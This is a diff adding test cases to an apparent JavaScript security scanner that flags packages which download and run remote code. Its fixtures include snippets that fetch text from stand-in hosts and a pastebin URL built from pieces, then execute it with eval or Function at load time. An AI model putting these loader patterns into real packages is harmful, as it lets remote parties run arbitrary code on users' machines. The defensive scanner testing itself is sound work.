@@ -137,6 +137,20 @@ axios.get('http://198.51.100.7/cfg').then((res) => { eval(res.data.x); });
     expect(['high', 'critical']).toContain(ip.level);
   });
 
+  it('fetched text evaluated at load time from an ordinary HTTPS host is high; the same inside an exported function stays medium', () => {
+    const atLoad = scan({ 'index.js': `const axios = require('axios');\naxios.get('https://api.rate-guard.example.net/v2/config').then((res) => { if (res.data.x) eval(res.data.x); }).catch(() => {});\nmodule.exports = () => {};\n` });
+    expect(atLoad.findings.find((f) => f.messageId === 'download')?.data).toMatchObject({ reach: 'run when the package is loaded' });
+    expect(['high', 'critical']).toContain(atLoad.level);
+    const onCall = scan({ 'index.js': `const axios = require('axios');\nexports.load = async (name) => { const res = await axios.get('https://plugins.example.net/' + name); return eval(res.data); };\n` });
+    expect(onCall.ids).toContain('remote-code/download');
+    expect(onCall.level).toBe('medium');
+  });
+
+  it('a request options object with a host built from pieces names its destination (a paste site)', () => {
+    const r = scan({ 'lib/cfg.js': `const https = require('https');\nconst host = ['paste', 'bin', '.com'].join('');\nfunction load() {\n  https.get({ host, path: '/raw/AbCd1234' }, (res) => {\n    const chunks = [];\n    res.on('data', (c) => chunks.push(c));\n    res.on('end', () => Function('require', Buffer.concat(chunks).toString())(require));\n  });\n}\nload();\n` });
+    expect(String(r.findings.find((f) => f.messageId === 'download')?.data?.where)).toContain('pastebin.com');
+  });
+
   it('follows promise chains and files written from a download, then required', () => {
     const chained = scan({ 'index.js': "fetch('https://cdn.example.org/rt.js').then((r) => r.text()).then((src) => new Function('require', src)(require));\n" });
     expect(chained.ids).toContain('remote-code/download');
